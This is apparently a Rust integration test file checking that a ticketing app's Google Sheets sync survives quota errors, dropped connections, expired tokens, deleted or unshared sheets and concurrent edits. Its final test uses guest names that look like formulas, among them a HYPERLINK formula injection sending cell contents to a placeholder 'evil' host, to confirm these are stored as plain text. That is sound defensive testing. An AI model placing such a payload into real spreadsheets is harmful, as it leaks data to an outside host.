//! Every line of "bad weather it must survive", one story each.

use std::time::Duration;

use entrada_app::SheetsState;
use entrada_testkit::google::{Fault, Kind, SERVICE_ACCOUNT};

use super::Story;

/// What meets the requests of this kind; then it clears up.
#[track_caller]
fn survives(on: Kind, skip: usize, times: usize, fault: Fault, code: &str) {
    let story = Story::begun();
    story.news();
    story.google.weather(on, skip, times, fault);
    let status = story.flush();
    let error = status.error.unwrap_or_else(|| panic!("nothing was noticed: {}", story.account()));
    assert_eq!((error.code.as_str(), status.state), (code, SheetsState::Waiting), "{error:?}");
    assert!(status.waiting > 0, "what was not seen to arrive still waits");
    assert!(!error.hint.is_empty() && !error.message.contains("ya29"), "{error:?}");
    story.settle();
}

#[test]
fn one_bad_range_in_a_batch() {
    let story = Story::begun();
    let tickets = story.sell(&["Ines", "Poisoned", "Kim", "Lea"]);
    story.google.poison(Some("Poisoned"));
    let status = story.flush();
    assert_eq!(status.state, SheetsState::NeedsPerson, "{status:?}");
    assert_eq!(status.error.unwrap().code, "request");
    let tab = story.guests();
    for good in [&tickets[0], &tickets[2], &tickets[3]] {
        assert!(tab.find("Number", &good.number).is_some(), "{:?} was held up", good.name);
    }
    let later = story.sell(&["Max"]).remove(0);
    story.flush();
    assert!(tab.find("Number", &later.number).is_some(), "one bad row must not hold up what comes after it");
    story.google.poison(None);
    story.settle();
}

#[test]
fn a_protected_column() {
    let story = Story::begun();
    let tab = story.guests();
    tab.protect(tab.column("State"));
    story.news();
    let status = story.flush();
    assert_eq!((status.state, status.error.unwrap().code.as_str()), (SheetsState::NeedsPerson, "protected"));
    tab.protect(None);
    story.settle();
}

#[test]
fn a_token_that_ends_in_mid_flush() {
    for skip in 0..4 {
        let story = Story::begun();
        story.news();
        story.google.weather(Kind::Sheets, skip, 1, Fault::TokensEnd);
        let status = story.flush();
        assert_eq!(
            status.state,
            SheetsState::UpToDate,
            "one refresh mends it: {status:?}{}",
            story.account()
        );
        story.settle();
    }
}

#[test]
fn a_sheet_that_is_shared_no_more() {
    let story = Story::begun();
    story.google.unshare(&story.sheet, SERVICE_ACCOUNT);
    story.news();
    let status = story.flush();
    let error = status.error.unwrap();
    assert_eq!((status.state, error.code.as_str()), (SheetsState::NeedsPerson, "not_shared"));
    assert!(error.message.contains(SERVICE_ACCOUNT), "it says whom to share with: {error:?}");
    story.google.share_to_view(&story.sheet, SERVICE_ACCOUNT);
    assert_eq!(story.trouble(), "not_shared");
    story.google.share(&story.sheet, SERVICE_ACCOUNT);
    story.settle();
}

#[test]
fn a_sheet_that_is_deleted_and_taken_out_of_the_bin() {
    let story = Story::begun();
    story.google.set_deleted(&story.sheet, true);
    story.news();
    let status = story.flush();
    assert_eq!((status.state, status.error.unwrap().code.as_str()), (SheetsState::NeedsPerson, "not_found"));
    story.google.set_deleted(&story.sheet, false);
    story.settle();
}

#[test]
fn a_tab_that_is_deleted_between_read_and_write() {
    let story = Story::begun();
    story.news();
    let tab = story.scans();
    story.google.before(Kind::Write, 0, move || tab.delete());
    story.flush();
    // The organiser's words in it went with it.
    story.own.borrow_mut().remove("Scans");
    story.settle();
    let tab = story.guests();
    tab.delete();
    story.own.borrow_mut().remove("Tickets");
    story.settle();
}

#[test]
fn a_storm_of_too_many_requests() {
    survives(Kind::Sheets, 1, 1, Fault::Status(429), "quota");
    survives(Kind::Write, 0, 1, Fault::RetryAfter(2), "quota");
    let story = Story::begun();
    story.google.set_quota(true);
    story.google.weather(Kind::Sheets, 0, 40, Fault::Status(429));
    story.news();
    for _ in 0..5 {
        let status = story.flush();
        assert_eq!((status.state, status.error.unwrap().code.as_str()), (SheetsState::Waiting, "quota"));
    }
    story.google.advance(60);
    story.settle();
}

#[test]
fn an_error_of_google_after_the_write_was_applied() {
    survives(Kind::Write, 0, 1, Fault::StatusAfter(500), "google");
    survives(Kind::Write, 0, 1, Fault::StatusAfter(503), "google");
    survives(Kind::Read, 0, 1, Fault::Status(502), "google");
    survives(Kind::Token, 0, 1, Fault::Status(503), "google");
}

#[test]
fn an_error_of_google_after_a_tab_or_column_was_added() {
    for fault in [Fault::StatusAfter(500), Fault::DropAfter, Fault::Truncated] {
        let story = Story::new();
        story.sell(&["Ada", "Bob"]);
        story.google.weather(Kind::Change, 0, 2, fault);
        story.flush();
        story.settle();
        let tabs = story.google.tabs(&story.sheet);
        assert_eq!(tabs.iter().filter(|title| title.starts_with("Tickets")).count(), 1, "{tabs:?}");
    }
}

#[test]
fn a_connection_that_drops_before_and_after_applying() {
    survives(Kind::Write, 0, 1, Fault::Drop, "offline");
    survives(Kind::Write, 0, 1, Fault::DropAfter, "offline");
    survives(Kind::Read, 0, 1, Fault::Drop, "offline");
    survives(Kind::Token, 0, 1, Fault::DropAfter, "offline");
}

#[test]
fn an_answer_after_180_seconds() {
    let story = Story::begun();
    let names: Vec<String> = (0..700).map(|guest| format!("Guest {guest}")).collect();
    story.sell(&names.iter().map(String::as_str).collect::<Vec<_>>());
    story.google.weather(Kind::Write, 0, 2, Fault::StatusAfter(504));
    story.flush();
    story.settle();
    let story = Story::begun();
    story.news();
    story.google.weather(Kind::Write, 0, 1, Fault::Slow(Duration::from_secs(2)));
    story.flush();
    story.settle();
}

#[test]
fn a_body_that_is_too_large() {
    let story = Story::begun();
    let names: Vec<String> = (0..600).map(|guest| format!("Guest {guest}")).collect();
    story.sell(&names.iter().map(String::as_str).collect::<Vec<_>>());
    story.google.set_longest(30_000);
    story.settle();
}

#[test]
fn an_answer_that_breaks_off() {
    for kind in [Kind::Read, Kind::Write, Kind::Token] {
        survives(kind, 0, 1, Fault::Truncated, "answer");
    }
    let story = Story::begun();
    story.news();
    story.google.weather(Kind::Read, 0, 1, Fault::Cut);
    assert!(["answer", "offline"].contains(&story.trouble().as_str()));
    story.settle();
}

#[test]
fn a_hotels_login_page() {
    for kind in [Kind::Token, Kind::Read, Kind::Write] {
        survives(kind, 0, 3, Fault::Portal, "portal");
        survives(kind, 0, 3, Fault::PortalRedirect, "portal");
    }
}

#[test]
fn a_clock_that_is_wrong() {
    for ahead in [-7_200, 7_200] {
        let story = Story::begun();
        story.google.end_tokens();
        story.google.set_ahead(ahead);
        story.news();
        let status = story.flush();
        // The server's own Date may mend it; then nobody has to be told.
        if status.state != SheetsState::UpToDate {
            assert_eq!(
                (status.state, status.error.unwrap().code.as_str()),
                (SheetsState::NeedsPerson, "clock")
            );
        }
        story.google.set_ahead(0);
        story.settle();
    }
}

#[test]
fn a_key_that_was_deleted() {
    let story = Story::begun();
    story.google.set_key_deleted(true);
    story.news();
    let status = story.flush();
    assert_eq!((status.state, status.error.unwrap().code.as_str()), (SheetsState::NeedsPerson, "key"));
    story.google.set_key_deleted(false);
    story.google.set_account_deleted(true);
    assert_eq!(story.trouble(), "key");
    story.google.set_account_deleted(false);
    story.settle();
}

#[test]
fn an_interface_that_is_switched_off_and_a_file_of_another_kind() {
    let story = Story::begun();
    story.google.set_api_off(true);
    story.news();
    assert_eq!(story.trouble(), "api_off");
    story.google.set_api_off(false);
    story.settle();
    story.google.make_excel(&story.sheet);
    story.news();
    assert_eq!(story.trouble(), "not_a_sheet");
}

#[test]
fn a_sheet_sorted_between_our_read_and_our_write() {
    for column in ["Name", "State", "Number", super::OWN, "Entrada"] {
        for write in 0..2 {
            let story = Story::begun();
            story.news();
            let tab = story.guests();
            let by = tab.column(column).unwrap();
            story.google.before(Kind::Write, write, move || tab.sort(by, true));
            let tab = story.scans();
            let by = tab.column("Reason").unwrap();
            story.google.before(Kind::Write, write, move || tab.sort(by, true));
            story.flush();
            story.settle();
        }
    }
}

#[test]
fn rows_and_columns_that_move_between_our_read_and_our_write() {
    let story = Story::begun();
    for round in 0..4 {
        story.news();
        let tab = story.guests();
        story.google.before(Kind::Write, 0, move || match round {
            0 => tab.insert_rows(2, 3),
            1 => tab.move_column(0, 4),
            2 => tab.insert_columns(1, 1),
            _ => tab.sort(3, false),
        });
        story.flush();
        story.settle();
    }
    let (tab, gone) = (story.guests(), story.tickets(&story.office));
    let row = tab.find("Name", "Ada").unwrap();
    let gone = gone.into_iter().find(|ticket| ticket.name.as_deref() == Some("Ada")).unwrap();
    story.edit(&gone, "Ada the Second");
    story.google.before(Kind::Write, 0, move || tab.delete_rows(row, 1));
    story.flush();
    story.own_lost("Tickets", &[&gone.number]);
    story.settle();
}

#[test]
fn the_number_column_renamed_and_deleted() {
    let story = Story::begun();
    let tab = story.guests();
    tab.edit(0, tab.column("Number").unwrap(), "Nummer");
    story.news();
    story.flush();
    assert!(tab.column("Number").is_none(), "people may rename it: {:?}", tab.header());
    let row = tab.find("Name", "Ines").unwrap();
    assert!(!tab.cell(row, tab.column("Nummer").unwrap()).is_empty());
    tab.edit(0, tab.column("Nummer").unwrap(), "Number");
    story.settle();
    tab.delete_columns(tab.column("Number").unwrap(), 1);
    story.news();
    story.settle();
    let tab = story.scans();
    tab.delete_columns(tab.column("Scan").unwrap(), 1);
    story.settle();
}

#[test]
fn every_column_of_ours_deleted_at_once() {
    let story = Story::begun();
    let tab = story.guests();
    for header in ["Number", "Entrada", "Name"] {
        tab.delete_columns(tab.column(header).unwrap(), 1);
    }
    story.news();
    // Nothing is left by which a row could be told from another, so the organiser's words may end up alone.
    story.own.borrow_mut().remove("Tickets");
    story.settle();
}

#[test]
fn ten_million_cells() {
    let story = Story::begun();
    let used: usize = story
        .google
        .tabs(&story.sheet)
        .iter()
        .map(|title| story.tab(title).grid())
        .map(|(rows, columns)| rows * columns)
        .sum();
    let big = story.google.add_tab(&story.sheet, "Big", 1, 10_000_000 - used);
    let names: Vec<String> = (0..1_200).map(|guest| format!("Guest {guest}")).collect();
    story.sell(&names.iter().map(String::as_str).collect::<Vec<_>>());
    let status = story.flush();
    assert_eq!((status.state, status.error.unwrap().code.as_str()), (SheetsState::NeedsPerson, "too_large"));
    big.delete();
    story.settle();
}

#[test]
fn names_that_look_like_formulas() {
    let story = Story::begun();
    let names =
        ["=HYPERLINK(\"http://evil/?\"&A1)", "+4912345", "-1+1", "@SUM(A1)", "0123", "TRUE", "1-2", "'x"];
    let tickets = story.sell(&names);
    story.settle();
    let tab = story.guests();
    for (ticket, name) in tickets.iter().zip(names) {
        let (row, column) = (tab.find("Number", &ticket.number).unwrap(), tab.column("Name").unwrap());
        assert_eq!(tab.cell(row, column), name);
        assert!(tab.is_text(row, column) && !tab.is_formula(row, column), "{name}");
    }
    assert_eq!(story.office.app.proposals(&story.event).unwrap(), [], "nobody proposed anything");
}
